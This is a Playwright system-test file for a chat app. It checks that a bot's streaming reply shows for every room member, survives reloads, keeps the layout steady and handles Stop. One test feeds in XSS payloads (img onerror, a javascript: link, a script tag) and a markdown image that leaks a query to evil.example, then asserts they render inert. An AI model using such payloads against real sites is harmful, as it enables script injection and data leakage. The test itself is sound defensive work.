"""What a bot is writing is seen while it is written, by everybody in the room, also after a reload."""

from __future__ import annotations

import re
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from accounts.models import User
from chat import drafts
from chat.models import Room
from chat.publisher import publisher
from chat.rendering import as_author
from lib.ids import uuid7
from tests.system.conftest import OpenPage

pytestmark = pytest.mark.system


@pytest.fixture
def room(ada: User, bea: User, echo: User) -> Room:
    return Room.group(ada, "Kyoto in May", [bea, echo])


class Writing:
    """A bot that writes a piece at a time."""

    def __init__(self, room: Room, bot: User) -> None:
        self.room, self.bot, self.run = room, bot, str(uuid7())
        self.written = 0

    def say(self, text: str, activity: str = "thinking with small", attempt: int = 1) -> None:
        frame = drafts.Frame(self.run, attempt, as_author(self.bot), self.written, text, "Chat", activity)
        drafts.put(self.room.pk, [frame])
        self.written += len(text)

    def reply(self, text: str) -> None:
        self.room.post(self.bot, text, client_id=f"{self.run}:1.0", metadata={"run": self.run})
        drafts.end(self.room.pk, self.run, 1)
        publisher.flush()


def live(page: Page) -> Page:
    expect(page.locator("html[data-connection=on]")).to_have_count(1)
    return page


def test_p6_text_grows_for_both_and_is_replaced_by_the_stored_reply(browse: OpenPage, room: Room, ada: User, bea: User, echo: User) -> None:
    hers, his = live(browse(ada, f"/rooms/{room.pk}/")), live(browse(bea, f"/rooms/{room.pk}/"))
    writing = Writing(room, echo)
    writing.say("")
    for page in (hers, his):
        article = page.get_by_role("article", name="Echo")
        expect(article).to_have_attribute("aria-busy", "true")
        expect(article).to_contain_text("thinking with small")
        expect(article.get_by_role("button", name="Stop")).to_be_visible()
        expect(page.get_by_role("navigation", name="Rooms")).to_contain_text("Echo is answering …")
    writing.say("A **bold** 🦷 ")
    expect(hers.get_by_role("article", name="Echo").locator("strong")).to_have_text("bold")
    writing.say("end")
    expect(his.get_by_role("article", name="Echo")).to_contain_text("A bold 🦷 end")
    writing.reply("A **bold** 🦷 end.")
    for page in (hers, his):
        article = page.get_by_role("article", name="Echo")
        expect(article).to_have_count(1)
        expect(article).to_have_attribute("data-kind", "text")
        expect(article).to_contain_text("A bold 🦷 end.")
        expect(page.get_by_role("navigation", name="Rooms")).not_to_contain_text("is answering")


def test_nothing_moves_when_the_reply_takes_the_place_of_the_draft(browse: OpenPage, room: Room, ada: User, echo: User) -> None:
    room.post(ada, "tell me")
    page = live(browse(ada, f"/rooms/{room.pk}/"))
    writing, text = (
        Writing(room, echo),
        "One paragraph of words.\n\n- a list\n- of two\n\n```yaml\nname: x\n```\n\nAn end of " + "words " * 40,
    )
    writing.say(text)
    body = page.get_by_role("article", name="Echo").locator(".message__body")
    expect(body).to_contain_text("An end of words")
    growing = body.bounding_box()
    writing.reply(text)
    expect(page.get_by_role("article", name="Echo")).to_have_attribute("data-kind", "text")
    stored = body.bounding_box()
    assert growing and stored
    assert abs(growing["y"] - stored["y"]) < 1 and abs(growing["height"] - stored["height"]) < 1


def test_p6_a_reload_and_a_second_tab_show_the_text_so_far(browse: OpenPage, room: Room, ada: User, echo: User) -> None:
    writing = Writing(room, echo)
    writing.say("The story ")
    writing.say("so far")
    page = live(browse(ada, f"/rooms/{room.pk}/"))
    expect(page.get_by_role("article", name="Echo")).to_contain_text("The story so far")
    page.reload()
    expect(page.get_by_role("article", name="Echo")).to_contain_text("The story so far")
    writing.say(" goes on")
    expect(page.get_by_role("article", name="Echo")).to_contain_text("The story so far goes on")
    expect(page.get_by_role("article", name="Echo")).to_have_count(1)


def test_a_new_attempt_starts_anew(browse: OpenPage, room: Room, ada: User, echo: User) -> None:
    page = live(browse(ada, f"/rooms/{room.pk}/"))
    writing = Writing(room, echo)
    writing.say("from the first worker")
    expect(page.get_by_role("article", name="Echo")).to_contain_text("from the first worker")
    writing.written = 0
    writing.say("again", attempt=2)
    expect(page.get_by_role("article", name="Echo").locator("[data-body]")).to_have_text("again")


def test_stop_asks_the_server_and_says_why_not(browse: OpenPage, room: Room, ada: User, echo: User) -> None:
    page = live(browse(ada, f"/rooms/{room.pk}/"))
    Writing(room, echo).say("on and on")
    asked: list[str] = []

    def answer(route: Any) -> None:
        asked.append(route.request.url)
        body = '{"error": {"code": "not_allowed", "message": "Only who asked can stop it."}}'
        route.fulfill(status=403, content_type="application/json", body=body)

    page.route("**/cancellation", answer)
    page.get_by_role("button", name="Stop").click()
    expect(page.get_by_text("Only who asked can stop it.")).to_be_visible()
    assert re.search(r"/api/v1/runs/[0-9a-f-]+/cancellation$", asked[0])


def test_w1_hostile_text_in_flight_is_inert(browse: OpenPage, room: Room, ada: User, echo: User) -> None:
    page = live(browse(ada, f"/rooms/{room.pk}/"))
    Writing(room, echo).say(
        "<img src=x onerror=alert(1)> [x](javascript:alert(1)) ![leak](https://evil.example/?q=1)", "<script>alert(1)</script>"
    )
    article = page.get_by_role("article", name="Echo")
    expect(article).to_contain_text("leak")
    expect(article.locator("[data-body] img, [data-body] script, a[href^='javascript']")).to_have_count(0)
    expect(article).to_contain_text("<script>alert(1)</script>")


def test_a_reader_further_up_is_not_moved_by_what_is_written(browse: OpenPage, room: Room, ada: User, echo: User) -> None:
    for number in range(40):
        room.post(ada, f"line {number}\n\nand a second paragraph")
    page = live(browse(ada, f"/rooms/{room.pk}/"))
    log = page.get_by_role("log", name="Messages")
    page.evaluate("document.fonts.ready.then(() => true)")  # lines change their height when their font comes
    log.evaluate("log => (log.scrollTop = -800)")
    mark = page.get_by_role("article").filter(has_text=re.compile(r"line 25\b"))
    before = mark.bounding_box()
    writing = Writing(room, echo)
    for number in range(12):
        writing.say(f"paragraph {number}\n\n")
    writing.reply("All of it.\n\n" * 12)
    expect(page.get_by_role("button", name="1 new message")).to_be_visible()
    after = mark.bounding_box()
    assert before and after and abs(before["y"] - after["y"]) < 2
    page.get_by_role("button", name="1 new message").click()
    expect(page.get_by_role("article", name="Echo")).to_be_in_viewport()
    expect(page.get_by_role("button", name="1 new message")).to_be_hidden()
